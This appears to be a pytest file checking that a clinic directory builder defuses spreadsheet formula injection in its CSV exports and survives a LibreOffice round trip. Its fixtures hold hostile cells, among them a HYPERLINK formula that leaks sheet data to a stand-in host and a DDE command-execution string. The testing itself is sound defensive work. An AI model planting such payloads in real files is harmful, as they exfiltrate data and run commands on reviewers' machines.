"""CSV files a reviewer opens in a spreadsheet: no scraped cell runs as a formula, and review.csv survives a real
spreadsheet's open-and-save round trip (LibreOffice, headless) as no change at all."""

import csv
import io
import json
import os
import shutil
import subprocess

import pandas as pd
import pytest

from clinicdir.build import BuildOptions, build
from directory.spreadsheet import TRIGGERS, neutralise, read_table, restore
from tests.test_build import item

SPREADSHEET_FILES = ("clinics.csv", "review.csv", "directory.csv", "changes.csv", "audit.csv")


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://leak.test/?"&A1,"Aspen")', '\'=HYPERLINK("http://leak.test/?"&A1,"Aspen")'),
    ("+13035550142", "'+13035550142"),
    ("-Dash Clinic", "'-Dash Clinic"),
    ("@Home Ketamine", "'@Home Ketamine"),
    ("\t=cmd", "'\t=cmd"),
    ("\r=cmd", "'\r=cmd"),
    ("'=1+1", "''=1+1"),          # already behind an apostrophe: one more, so reading takes exactly one away
    ("''-x", "'''-x"),
    ("'Aspen's", "'Aspen's"),      # an apostrophe before anything else is just text
    ("Aspen = calm", "Aspen = calm"),
    (" =1+1", " =1+1"),            # a spreadsheet runs no cell that starts with a space
    ("", ""),
    (None, None),
    (450.0, 450.0),
])
def test_cells_a_spreadsheet_would_run_are_neutralised_and_read_back_exactly(value, written):
    assert neutralise(value) == written
    if isinstance(value, str):
        assert restore(written) == value


def _crawl(tmp_path, records):
    folder = tmp_path / "crawl"
    folder.mkdir(exist_ok=True)
    (folder / "items.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))
    return folder


HOSTILE = [
    # Scraped text made to run in a reviewer's spreadsheet: a link leaking the sheet, a sum, a DDE call.
    item('=HYPERLINK("http://leak.test/?d="&C2,"Aspen Ketamine")', "1420 Larimer St", "Denver", "CO", "80202",
         None, phone="=1+1", website="http://aspen.test/", source_url="http://aspen.test/"),
    item("-Dash Ketamine", "@2 Main St", "+Boston", "MA", "02116", 1200.0, 1500.0, phone="+16175550142",
         fee_confidence="low", fee_note="low confidence: conflicting prices", website="http://dash.test/",
         source_url="http://dash.test/", latitude=42.35, longitude=-71.07,
         fees=[{"kind": "infusion", "amount": 1200.0, "evidence": "=cmd|' /C calc'!A0 each infusion $1,200",
                "url": "http://dash.test/pricing"},
               {"kind": "infusion", "amount": 1500.0, "evidence": "Infusions, \"premium\": $1,500",
                "url": "http://dash.test/faq"}]),
    item("Holtsville Infusions, \"Café\"", "1 Long Island Ave", "Holtsville", "NY", "00501", 450.0, 650.0,
         phone="+16315550199", ketamine_provider=None, website="http://holtsville.test/",
         source_url="http://holtsville.test/", latitude=40.815412, longitude=-73.045123,
         review_flags=["too_many_locations"]),
]


def test_no_cell_of_a_spreadsheet_file_starts_with_what_a_spreadsheet_runs(tmp_path):
    crawl = _crawl(tmp_path, HOSTILE)
    out = tmp_path / "out"
    build(BuildOptions(crawl_dirs=[crawl], out_dir=out, tiles=None))
    overrides = tmp_path / "overrides.csv"   # a reviewer's change, so audit.csv has rows
    overrides.write_text("clinic_id,reason,reviewer,status\n"
                         f"{read_table(out / 'clinics.csv').loc[1, 'clinic_id']},'-checked by phone,ana,listed\n")
    build(BuildOptions(crawl_dirs=[crawl], out_dir=out, tiles=None, overrides_path=overrides))
    for name in SPREADSHEET_FILES:
        rows = list(csv.reader(io.StringIO((out / name).read_text(encoding="utf-8"), newline="")))
        assert len(rows) > 1, name
        risky = [cell for row in rows for cell in row if cell and cell[0] in TRIGGERS and not _number(cell)]
        assert risky == [], name
    clinics = read_table(out / "clinics.csv").set_index("website")
    assert clinics.loc["http://aspen.test/", "name"] == HOSTILE[0]["name"]
    assert clinics.loc["http://aspen.test/", "phone"] == "=1+1"
    assert clinics.loc["http://dash.test/", ["name", "street", "city"]].tolist() == [
        "-Dash Ketamine", "@2 Main St", "+Boston"]
    assert read_table(out / "audit.csv")["reason"].tolist() == ["-checked by phone"]
    # Numbers stay numbers: a longitude is written as a negative number, not as text.
    assert "-73.045123" in (out / "clinics.csv").read_text().splitlines()[1 + 2]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _spreadsheet_round_trip(sheet, folder):
    """Open the CSV in LibreOffice Calc and save it as CSV, as a reviewer's spreadsheet does."""
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is missing: run 'make libreoffice' (apt-get install libreoffice-calc-nogui)"
    profile = folder / "profile"   # a profile of its own: another LibreOffice running would take the job over
    done = subprocess.run(
        [soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--infilter=CSV:44,34,76,1",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(folder), str(sheet)],
        capture_output=True, text=True, timeout=180, env={**os.environ, "HOME": str(folder)})
    saved = folder / sheet.name
    assert done.returncode == 0 and saved.exists(), done.stderr
    return saved


def test_review_sheet_saved_by_a_spreadsheet_comes_back_as_no_change(tmp_path):
    crawl = _crawl(tmp_path, HOSTILE)
    first = build(BuildOptions(crawl_dirs=[crawl], out_dir=tmp_path / "out", tiles=None))
    assert set(first.clinics["status"]) == {"review"}
    saved = _spreadsheet_round_trip(tmp_path / "out" / "review.csv", tmp_path / "spreadsheet")
    text = saved.read_text(encoding="utf-8")
    # What the spreadsheet did: every cell quoted, leading zeros gone, no formula run.
    assert '"\'=1+1"' in text and ",501," in text and ",2116," in text

    again = build(BuildOptions(crawl_dirs=[crawl], out_dir=tmp_path / "again", tiles=None, overrides_path=saved))
    assert again.audit == []
    assert again.warnings == first.warnings
    unchanged = [column for column in first.clinics.columns if column not in ("reviewed_by", "reviewed_on")]
    pd.testing.assert_frame_equal(again.clinics[unchanged], first.clinics[unchanged])
    assert set(again.clinics["reviewed_by"]) == {"reviewer"}


def test_a_clinics_file_saved_by_a_spreadsheet_still_serves_as_the_previous_build(tmp_path):
    # A maintainer opened clinics.csv and saved it: ZIP codes lost their leading zeros, true became TRUE.
    out = tmp_path / "out"
    build(BuildOptions(crawl_dirs=[_crawl(tmp_path, HOSTILE)], out_dir=out, tiles=None))
    saved = _spreadsheet_round_trip(out / "clinics.csv", tmp_path / "spreadsheet")
    assert ",2116," in saved.read_text() and ",TRUE," in saved.read_text()
    shutil.copy(saved, out / "clinics.csv")
    (tmp_path / "later").mkdir()
    later = dict(HOSTILE[0], crawled_at="2026-11-27T09:00:00+00:00")
    again = build(BuildOptions(crawl_dirs=[_crawl(tmp_path / "later", [later])], out_dir=out, tiles=None))
    gone = again.clinics.set_index("website").loc[["http://dash.test/", "http://holtsville.test/"]]
    assert gone["postal_code"].tolist() == ["02116", "00501"] and gone["last_seen"].tolist() == ["2026-11-20"] * 2
    assert gone.loc["http://dash.test/", "ketamine_provider"] == True  # noqa: E712 (numpy bool)
